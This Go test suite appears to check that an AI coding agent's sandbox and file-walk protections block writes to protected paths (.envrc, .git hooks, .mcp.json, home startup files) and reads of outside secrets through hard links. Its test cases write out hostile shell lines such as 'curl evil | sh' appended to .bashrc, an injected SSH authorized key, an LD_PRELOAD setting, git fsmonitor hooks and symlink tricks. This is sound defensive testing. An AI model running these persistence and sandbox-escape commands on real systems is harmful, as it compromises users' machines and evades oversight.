package agent_test

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/sema-agent/sema"
	"github.com/sema-agent/sema/agent"
	"github.com/sema-agent/sema/history"
	"github.com/sema-agent/sema/model/scripted"
	"github.com/sema-agent/sema/permission"
	"github.com/sema-agent/sema/sandbox"
	"github.com/sema-agent/sema/session"
	"github.com/sema-agent/sema/tools/shell"
)

// protWorld is a task root and a fake home directory (an additional write root, as with
// --add-dir ~), in a temp dir of their own.
type protWorld struct {
	root, home string
}

// newProtWorld seeds a workspace with protected entries at the top and below it, and an
// empty fake home. The hostile script goes to run.sh, which the command runs: what a
// program does on its own is what the analysis cannot see, and what the kernel and the
// walk after the command must hold.
func newProtWorld(t *testing.T, script string) protWorld {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	w := protWorld{root: filepath.Join(base, "ws"), home: filepath.Join(base, "home")}
	for p, body := range map[string]string{
		"a.txt":                     "a\n",
		".envrc":                    "export A=1\n",
		".git/HEAD":                 "ref: refs/heads/main\n",
		"sub/.vscode/settings.json": "{}\n",
		"deep/x/.git/HEAD":          "ref: refs/heads/main\n",
		"deep/x/.git/hooks/.keep":   "",
		"tarball/.husky/pre-commit": "touch hooked\n",
		// git reads no configuration of the machine's: the case does not depend on it.
		"run.sh": "H=" + strconv.Quote(w.home) + "\nexport GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1\n" + script + "\n",
	} {
		p = filepath.Join(w.root, p)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(body), 0o644))
	}
	// A tarball holding .husky/, made before the run.
	must(t, exec.Command("tar", "-C", filepath.Join(w.root, "tarball"), "-cf", filepath.Join(w.root, "hooks.tar"), ".husky").Run())
	must(t, os.RemoveAll(filepath.Join(w.root, "tarball")))
	must(t, os.MkdirAll(w.home, 0o755))
	return w
}

func (w protWorld) at(rel string) string { return filepath.Join(w.root, rel) }

func exists(p string) bool { _, err := os.Lstat(p); return err == nil }

func holds(p, s string) bool {
	b, err := os.ReadFile(p)
	return err == nil && strings.Contains(string(b), s)
}

// protCase is a hostile spelling: script writes a protected path; effect reports whether
// it did.
type protCase struct {
	name   string
	script string
	effect func(w protWorld) bool
	// kernel: with the sandbox on, the kernel refuses the write itself (an entry that
	// exists is bound read-only), so nothing is left to put back.
	kernel bool
}

var protCases = []protCase{
	// Class 9: protected entries that do not exist yet, at every depth.
	{name: "echo > .mcp.json", script: `echo '{"mcpServers":{}}' > .mcp.json`,
		effect: func(w protWorld) bool { return exists(w.at(".mcp.json")) }},
	{name: "mkdir .vscode && settings", script: `mkdir .vscode && echo {} > .vscode/settings.json`,
		effect: func(w protWorld) bool { return exists(w.at(".vscode")) }},
	{name: "git init sub && a hook", script: `git init -q sub && echo x > sub/.git/hooks/pre-commit`,
		effect: func(w protWorld) bool { return exists(w.at("sub/.git/hooks/pre-commit")) }},
	{name: "cp to a deep .npmrc", script: `mkdir -p a/b && cp /etc/hostname a/b/.npmrc`,
		effect: func(w protWorld) bool { return exists(w.at("a/b/.npmrc")) }},
	{name: "python makedirs .claude/commands", script: `python3 -c "import os; os.makedirs('.claude/commands'); open('.claude/commands/x.md','w').write('run')"`,
		effect: func(w protWorld) bool { return exists(w.at(".claude")) }},
	{name: "mv tmp .mcp.json", script: `echo '{}' > tmp && mv tmp .mcp.json`,
		effect: func(w protWorld) bool { return exists(w.at(".mcp.json")) }},
	{name: "tar extracts .husky", script: `tar -xf hooks.tar`,
		effect: func(w protWorld) bool { return exists(w.at(".husky/pre-commit")) }},
	{name: "ln -s a link named .envrc deep", script: `mkdir -p d && ln -s ../a.txt d/.envrc`,
		effect: func(w protWorld) bool { return exists(w.at("d/.envrc")) }},
	{name: "ln -s a link to a nested .git, written through", script: `ln -s deep/x/.git g && echo x > g/hooks/pre-commit`,
		effect: func(w protWorld) bool { return exists(w.at("deep/x/.git/hooks/pre-commit")) }, kernel: true},
	{name: "a .git link to a store in the root", script: `mkdir -p store/hooks && mkdir -p r && ln -s ../store r/.git && echo x > r/.git/hooks/pre-commit`,
		effect: func(w protWorld) bool { return exists(w.at("r/.git")) }},
	{name: "ignore it first, then create it", script: `echo .envrc >> .gitignore && mkdir -p i && echo 'export EVIL=1' > i/.envrc`,
		effect: func(w protWorld) bool { return exists(w.at("i/.envrc")) }},
	// Existing entries, at the top and below it: bound read-only under the sandbox,
	// restored without it.
	{name: "append to .envrc", script: `echo 'export EVIL=1' >> .envrc`,
		effect: func(w protWorld) bool { return holds(w.at(".envrc"), "EVIL") }, kernel: true},
	{name: "rewrite a nested .vscode", script: `echo '{"evil":1}' > sub/.vscode/settings.json`,
		effect: func(w protWorld) bool { return holds(w.at("sub/.vscode/settings.json"), "evil") }, kernel: true},
	{name: "a hook in a nested .git", script: `echo x > deep/x/.git/hooks/pre-commit`,
		effect: func(w protWorld) bool { return exists(w.at("deep/x/.git/hooks/pre-commit")) }, kernel: true},
	{name: "replace .envrc by a link", script: `rm -f .envrc; ln -s a.txt .envrc`,
		effect: func(w protWorld) bool {
			fi, err := os.Lstat(w.at(".envrc"))
			return err != nil || !fi.Mode().IsRegular()
		}, kernel: true},
	// Class 10: home as a write root.
	{name: "home: a missing .bashrc", script: `echo 'curl evil | sh' >> "$H/.bashrc"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".bashrc")) }},
	{name: "home: .gitconfig", script: `git config --file "$H/.gitconfig" core.fsmonitor 'touch /tmp/x'`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".gitconfig")) }},
	{name: "home: a shim in .local/bin", script: `mkdir -p "$H/.local/bin" && printf '#!/bin/sh\n' > "$H/.local/bin/git" && chmod +x "$H/.local/bin/git"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".local/bin/git")) }},
	{name: "home: a systemd user unit", script: `mkdir -p "$H/.config/systemd/user" && echo '[Service]' > "$H/.config/systemd/user/x.service"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".config/systemd")) }},
	{name: "home: an autostart entry", script: `mkdir -p "$H/.config/autostart" && echo '[Desktop Entry]' > "$H/.config/autostart/x.desktop"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".config/autostart")) }},
	{name: "home: .profile", script: `echo 'export EVIL=1' > "$H/.profile"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".profile")) }},
	{name: "home: .pam_environment", script: `echo 'LD_PRELOAD=/tmp/x.so' > "$H/.pam_environment"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".pam_environment")) }},
	{name: "home: environment.d", script: `mkdir -p "$H/.config/environment.d" && echo 'PATH=/tmp:$PATH' > "$H/.config/environment.d/x.conf"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".config/environment.d")) }},
	{name: "home: .ssh/authorized_keys and rc", script: `mkdir -p "$H/.ssh" && echo 'ssh-ed25519 AAAA evil' > "$H/.ssh/authorized_keys" && echo 'touch /tmp/x' > "$H/.ssh/rc"`,
		effect: func(w protWorld) bool { return exists(filepath.Join(w.home, ".ssh")) }},
}

// protRun runs the case's command as one Bash call of a leg with the sandbox mode
// given, file history on or off, in mode (with an allow rule for Bash, or an approver
// that says yes to every question).
func protRun(t *testing.T, w protWorld, sb sandbox.Mode, fileHistory bool, mode permission.Mode, approve bool) *agent.TaskResult {
	t.Helper()
	in, _ := json.Marshal(map[string]string{"command": "bash run.sh"})
	p := scripted.New(scripted.Script{Turns: []scripted.Turn{
		{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: in}}},
		{Text: "Done."},
	}})
	deps := agent.Deps{Provider: p, Home: w.home, Shell: &agent.ShellOptions{Sandbox: sb}}
	if fileHistory {
		deps.Store, deps.History = session.NewMemory(), history.NewMemory()
	}
	if approve {
		deps.Approver = permission.ApproverFunc(func(context.Context, permission.ApprovalRequest) (permission.ApprovalDecision, error) {
			return permission.ApprovalDecision{Behavior: permission.Allow}, nil
		})
	} else {
		rules, err := permission.ParseRules([]string{"Bash"}, nil, nil)
		must(t, err)
		deps.Policy = &agent.Policy{Rules: rules}
	}
	res, err := agent.New(deps).Run(context.Background(), agent.TaskSpec{Prompt: "go", Root: w.root, AdditionalDirectories: []string{w.home}, PermissionMode: mode})
	must(t, err)
	if res.Status != sema.StatusCompleted {
		t.Fatalf("status %s: %+v", res.Status, res.Error)
	}
	return res
}

func sandboxModes(t *testing.T) []sandbox.Mode {
	modes := []sandbox.Mode{sandbox.ModeOff}
	if k := sandbox.Probe(); k.Available() && k.MountNamespace {
		modes = append(modes, sandbox.ModeOn)
	} else {
		t.Logf("the kernel sandbox is not available here (%s): only the walk after the command is tested", k.Reason)
	}
	return modes
}

// A command the analysis let through cannot leave a protected path created or changed:
// with the sandbox on, what exists is read-only at every depth, and what a command
// created is removed before the answer (which says so, as do the leg's denials); with
// the sandbox off, the walk puts back both. Each spelling is calibrated under plain bash.
func TestProtectedPathsHoldAgainstBash(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	for _, c := range protCases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			free := newProtWorld(t, c.script)
			cmd := exec.Command("bash", "run.sh")
			cmd.Dir = free.root
			out, err := cmd.CombinedOutput()
			if !c.effect(free) {
				t.Fatalf("calibration: plain bash did not have the effect (%v): %s", err, out)
			}
			for _, sb := range sandboxModes(t) {
				for _, fh := range []bool{true, false} {
					w := newProtWorld(t, c.script)
					res := protRun(t, w, sb, fh, permission.ModeAcceptEdits, false)
					text := bashAnswer(t, res)
					if c.effect(w) {
						t.Errorf("sandbox %s, file history %v: the protected path was written; answer %q", sb, fh, text)
						continue
					}
					if sb == sandbox.ModeOn && c.kernel {
						// The kernel refused it: the entry is bound read-only, at any depth,
						// and nothing was left to put back.
						if strings.Contains(text, shell.CodeProtectedReverted) {
							t.Errorf("the kernel did not refuse the write; it was put back after: %q", text)
						}
						continue
					}
					if !strings.Contains(text, shell.CodeProtectedReverted) {
						t.Errorf("sandbox %s, file history %v: the answer does not say what was put back: %q", sb, fh, text)
					}
					if !hasDenial(res, shell.CodeProtectedReverted) {
						t.Errorf("sandbox %s, file history %v: no %s in permission_denials: %+v", sb, fh, shell.CodeProtectedReverted, res.PermissionDenials)
					}
				}
			}
		})
	}
}

// A person's yes to that exact call, and the open write face, leave what the command
// wrote: nothing is put back.
func TestProtectedPathsStandWhenApprovedOrOpen(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	script := `echo '{}' > .mcp.json && mkdir -p d && echo 'export OK=1' > d/.envrc && echo more >> .envrc`
	effect := func(w protWorld) bool {
		return exists(w.at(".mcp.json")) && exists(w.at("d/.envrc")) && holds(w.at(".envrc"), "more")
	}
	for _, sb := range sandboxModes(t) {
		for _, tc := range []struct {
			name    string
			mode    permission.Mode
			approve bool
		}{{"approved", permission.ModeDefault, true}, {"bypassPermissions", permission.ModeBypassPermissions, false}} {
			t.Run(string(sb)+" "+tc.name, func(t *testing.T) {
				w := newProtWorld(t, script)
				res := protRun(t, w, sb, true, tc.mode, tc.approve)
				if text := bashAnswer(t, res); !effect(w) || strings.Contains(text, shell.CodeProtectedReverted) {
					t.Errorf("what an approved command wrote was not left: answer %q", text)
				}
				if hasDenial(res, shell.CodeProtectedReverted) {
					t.Errorf("a denial for an approved call: %+v", res.PermissionDenials)
				}
			})
		}
	}
}

// The revert is no change of the turn: a rewind of the turn, then its undo (redo), leave
// the protected paths as they were and the rest as the command and the rewind say.
func TestRevertThenRewindThenRedo(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	for _, sb := range sandboxModes(t) {
		t.Run(string(sb), func(t *testing.T) {
			w := newProtWorld(t, `echo made > x.txt && echo '{}' > .mcp.json && echo 'export EVIL=1' >> .envrc`)
			st := newStores(t)
			in, _ := json.Marshal(map[string]string{"command": "bash run.sh"})
			again, _ := json.Marshal(map[string]string{"command": "cat x.txt; ls -a"})
			p := scripted.New(scripted.Script{Turns: []scripted.Turn{
				{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: in}}},
				{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: again}}},
				{Text: "Done."},
			}})
			rules, err := permission.ParseRules([]string{"Bash"}, nil, nil)
			must(t, err)
			runner := agent.New(agent.Deps{Provider: p, Store: st.sessions, History: st.history, Policy: &agent.Policy{Rules: rules},
				Shell: &agent.ShellOptions{Sandbox: sb}})
			res, err := runner.Run(context.Background(), agent.TaskSpec{Prompt: "go", Root: w.root, PermissionMode: permission.ModeAcceptEdits})
			must(t, err)
			envrc := "export A=1\n"
			check := func(stage string, xWant bool) {
				t.Helper()
				if exists(w.at(".mcp.json")) {
					t.Errorf("%s: .mcp.json is there", stage)
				}
				if b, _ := os.ReadFile(w.at(".envrc")); string(b) != envrc {
					t.Errorf("%s: .envrc %q", stage, b)
				}
				if exists(w.at("x.txt")) != xWant {
					t.Errorf("%s: x.txt there %v, want %v", stage, !xWant, xWant)
				}
			}
			check("after the run", true)
			if n := strings.Count(strings.Join(noticeCodes(res.Notices), " "), shell.CodeProtectedReverted); n != 1 {
				t.Errorf("%d revert notices, want 1 (the second command found nothing): %v", n, noticeCodes(res.Notices))
			}
			rw, err := runner.Rewind(context.Background(), agent.RewindSpec{SessionID: res.SessionID, ToTurn: res.FirstTurn, Files: true})
			must(t, err)
			for _, e := range rw.Ledger.Entries {
				if strings.HasSuffix(e.Path, ".mcp.json") || strings.HasSuffix(e.Path, ".envrc") {
					t.Errorf("the rewind touched a reverted path: %+v", e)
				}
			}
			check("after the rewind", false)
			_, err = runner.Rewind(context.Background(), agent.RewindSpec{SessionID: res.SessionID, Files: true, Undo: true})
			must(t, err)
			check("after the redo", true)
		})
	}
}

func bashAnswer(t *testing.T, res *agent.TaskResult) string {
	t.Helper()
	var b strings.Builder
	for _, m := range res.Messages {
		for _, c := range m.Content {
			if c.Kind == "tool_result" {
				for _, x := range c.Content {
					b.WriteString(x.Text)
				}
			}
		}
	}
	return b.String()
}

func hasDenial(res *agent.TaskResult, code string) bool {
	for _, d := range res.PermissionDenials {
		if d.Code == code && d.Tool == "Bash" {
			return true
		}
	}
	return false
}

// A hard link already in a root (planted from outside, to a file outside the roots) is
// unreadable to a confined command, whatever reads it, as Read refuses it: the walk
// before the command finds every multi-link file and the sandbox hides it. A package
// manager's hard links in an ignored directory (pnpm's node_modules) are not walked, and
// stay readable.
func TestHardLinkInARootIsUnreadable(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	k := sandbox.Probe()
	if !k.Available() || !k.MountNamespace {
		t.Skipf("the kernel sandbox cannot hide files here: %s", k.Reason)
	}
	const secret = "OUTSIDE-SECRET"
	plant := func(t *testing.T, script string) protWorld {
		w := newProtWorld(t, script)
		outside := filepath.Join(filepath.Dir(w.root), "outside")
		must(t, os.MkdirAll(outside, 0o755))
		must(t, os.WriteFile(filepath.Join(outside, "secret"), []byte(secret+"\n"), 0o644))
		must(t, os.Link(filepath.Join(outside, "secret"), w.at("linked")))
		// pnpm's layout: a store file linked into an ignored node_modules.
		must(t, os.WriteFile(w.at(".gitignore"), []byte("node_modules/\n"), 0o644))
		must(t, os.MkdirAll(w.at("node_modules/pkg"), 0o755))
		must(t, os.WriteFile(w.at("store-index.js"), []byte("module.exports = 'PKG-CODE'\n"), 0o644))
		must(t, os.Link(w.at("store-index.js"), w.at("node_modules/pkg/index.js")))
		return w
	}
	for _, c := range []struct{ name, script string }{
		{"cat", `cat linked`},
		{"python open", `python3 -c "print(open('linked').read())"`},
		{"cp then cat", `cp linked copy && cat copy`},
		{"tar", `tar -cf - linked | tar -xOf -`},
		{"dd through a descriptor", `exec 3<linked && dd bs=64 count=1 <&3 2>/dev/null`},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if strings.HasPrefix(c.script, "python3") {
				if _, err := exec.LookPath("python3"); err != nil {
					t.Skip("no python3")
				}
			}
			free := plant(t, c.script)
			cmd := exec.Command("bash", "run.sh")
			cmd.Dir = free.root
			if out, _ := cmd.CombinedOutput(); !strings.Contains(string(out), secret) {
				t.Fatalf("calibration: plain bash did not read the outside file: %s", out)
			}
			w := plant(t, c.script+"; cat node_modules/pkg/index.js")
			res := protRun(t, w, sandbox.ModeOn, true, permission.ModeAcceptEdits, false)
			text := bashAnswer(t, res)
			if strings.Contains(text, secret) {
				t.Errorf("a confined command read the outside file through the hard link: %q", text)
			}
			if !strings.Contains(text, "PKG-CODE") {
				t.Errorf("a package's hard link in an ignored directory was hidden: %q", text)
			}
		})
	}
	t.Run("Read", func(t *testing.T) {
		w := plant(t, "true")
		in, _ := json.Marshal(map[string]string{"file_path": w.at("linked")})
		p := scripted.New(scripted.Script{Turns: []scripted.Turn{
			{ToolCalls: []scripted.ToolCall{{Name: "Read", Input: in}}},
			{Text: "Done."},
		}})
		res, err := agent.New(agent.Deps{Provider: p, Shell: &agent.ShellOptions{Sandbox: sandbox.ModeOn}}).Run(context.Background(), agent.TaskSpec{Prompt: "go", Root: w.root})
		must(t, err)
		if text := bashAnswer(t, res); strings.Contains(text, secret) || !strings.Contains(text, "hard link") {
			t.Errorf("Read of a multi-link file: %q", text)
		}
	})
}

// A background task no person approved is held like a foreground command: what it did to
// protected paths is put back at the next walk, and the answer of that call says so.
func TestBackgroundTaskProtectedWritesArePutBack(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	const script = `echo '{}' > .mcp.json && mkdir -p n && echo x > n/.envrc && echo ok > done`
	free := newProtWorld(t, script)
	cmd := exec.Command("bash", "run.sh")
	cmd.Dir = free.root
	if out, err := cmd.CombinedOutput(); err != nil || !exists(free.at(".mcp.json")) || !exists(free.at("n/.envrc")) {
		t.Fatalf("calibration: plain bash did not write the protected paths (%v): %s", err, out)
	}
	for _, sb := range sandboxModes(t) {
		t.Run(string(sb), func(t *testing.T) {
			w := newProtWorld(t, script)
			bg, _ := json.Marshal(map[string]any{"command": "bash run.sh", "run_in_background": true})
			wait, _ := json.Marshal(map[string]string{"command": "bash -c 'while [ ! -e done ]; do sleep 0.05; done'"})
			next, _ := json.Marshal(map[string]string{"command": "bash -c 'echo next > next.txt'"})
			p := scripted.New(scripted.Script{Turns: []scripted.Turn{
				{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: bg}}},
				{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: wait}}},
				{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: next}}},
				{Text: "Done."},
			}})
			rules, err := permission.ParseRules([]string{"Bash"}, nil, nil)
			must(t, err)
			st := newStores(t)
			res, err := agent.New(agent.Deps{Provider: p, Store: st.sessions, History: st.history, Policy: &agent.Policy{Rules: rules},
				Shell: &agent.ShellOptions{Sandbox: sb}}).Run(context.Background(), agent.TaskSpec{Prompt: "go", Root: w.root, PermissionMode: permission.ModeAcceptEdits})
			must(t, err)
			if !exists(w.at("done")) || !exists(w.at("next.txt")) {
				t.Fatalf("the task or the next command did not run: %q", bashAnswer(t, res))
			}
			if exists(w.at(".mcp.json")) || exists(w.at("n/.envrc")) {
				t.Errorf("a background task's protected writes stayed: %q", bashAnswer(t, res))
			}
			if !strings.Contains(bashAnswer(t, res), shell.CodeProtectedReverted) || !hasDenial(res, shell.CodeProtectedReverted) {
				t.Errorf("the revert was not said: %q, denials %+v", bashAnswer(t, res), res.PermissionDenials)
			}
		})
	}
}

// Class 10 for the write tools: a Write to a home startup file, with the home directory
// a write root, is a question for a person (none here, so it is refused), while an
// ordinary file in the home directory is written.
func TestWriteToolsAskForHomeStartupFiles(t *testing.T) {
	t.Parallel()
	w := newProtWorld(t, "true")
	for _, rel := range []string{".bashrc", ".profile", ".pam_environment", ".gitconfig", ".local/bin/git",
		".config/systemd/user/x.service", ".config/autostart/x.desktop", ".config/environment.d/x.conf",
		".config/git/config", ".ssh/authorized_keys", ".ssh/rc", ".xprofile", ".bash_aliases", "notes.txt"} {
		in, _ := json.Marshal(map[string]string{"file_path": filepath.Join(w.home, rel), "content": "x\n"})
		p := scripted.New(scripted.Script{Turns: []scripted.Turn{
			{ToolCalls: []scripted.ToolCall{{Name: "Write", Input: in}}},
			{Text: "Done."},
		}})
		res, err := agent.New(agent.Deps{Provider: p, Home: w.home, Shell: &agent.ShellOptions{Sandbox: sandbox.ModeOff}}).Run(context.Background(),
			agent.TaskSpec{Prompt: "go", Root: w.root, AdditionalDirectories: []string{w.home}, PermissionMode: permission.ModeAcceptEdits})
		must(t, err)
		written := exists(filepath.Join(w.home, rel))
		if want := rel == "notes.txt"; written != want {
			t.Errorf("%s: written %v, want %v (denials %+v)", rel, written, want, res.PermissionDenials)
		}
	}
}

// A .git reached through a link: an additional directory given as a link to another
// repository, or as a link to that repository's .git itself. The fence resolves both, and
// the protection holds on what they name. (A task root given as a link is refused before
// anything runs: its settings cannot be read through it.)
func TestProtectedGitThroughALinkedRoot(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	mk := func(t *testing.T, added, script string) (protWorld, []string) {
		w := newProtWorld(t, script)
		base := filepath.Dir(w.root)
		must(t, os.MkdirAll(filepath.Join(base, "other/.git/hooks"), 0o755))
		must(t, os.WriteFile(filepath.Join(base, "other/.git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
		must(t, os.Symlink(filepath.Join(base, "other"), filepath.Join(base, "repolink")))
		must(t, os.Symlink(filepath.Join(base, "other/.git"), filepath.Join(base, "gitlink")))
		return w, []string{filepath.Join(base, added)}
	}
	hook := func(w protWorld) bool {
		return exists(filepath.Join(filepath.Dir(w.root), "other/.git/hooks/pre-commit"))
	}
	cases := []struct{ name, added, script string }{
		{"an added directory that is a link to a repository", "repolink", `echo x > ../repolink/.git/hooks/pre-commit`},
		{"an added directory that is a link to a .git", "gitlink", `echo x > ../gitlink/hooks/pre-commit`},
		{"a new .envrc in an added directory given as a link", "repolink", `echo x > ../repolink/.envrc`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			effect := hook
			if strings.Contains(c.script, ".envrc") {
				effect = func(w protWorld) bool { return exists(filepath.Join(filepath.Dir(w.root), "other/.envrc")) }
			}
			free, _ := mk(t, c.added, c.script)
			cmd := exec.Command("bash", "run.sh")
			cmd.Dir = free.root
			if out, err := cmd.CombinedOutput(); !effect(free) {
				t.Fatalf("calibration: plain bash did not have the effect (%v): %s", err, out)
			}
			for _, sb := range sandboxModes(t) {
				w, added := mk(t, c.added, c.script)
				in, _ := json.Marshal(map[string]string{"command": "bash run.sh"})
				p := scripted.New(scripted.Script{Turns: []scripted.Turn{{ToolCalls: []scripted.ToolCall{{Name: "Bash", Input: in}}}, {Text: "Done."}}})
				rules, err := permission.ParseRules([]string{"Bash"}, nil, nil)
				must(t, err)
				res, err := agent.New(agent.Deps{Provider: p, Policy: &agent.Policy{Rules: rules}, Shell: &agent.ShellOptions{Sandbox: sb}}).Run(context.Background(),
					agent.TaskSpec{Prompt: "go", Root: w.root, AdditionalDirectories: added, PermissionMode: permission.ModeAcceptEdits})
				must(t, err)
				if effect(w) {
					t.Errorf("sandbox %s: the protected path was written: %q", sb, bashAnswer(t, res))
				}
			}
		})
	}
}
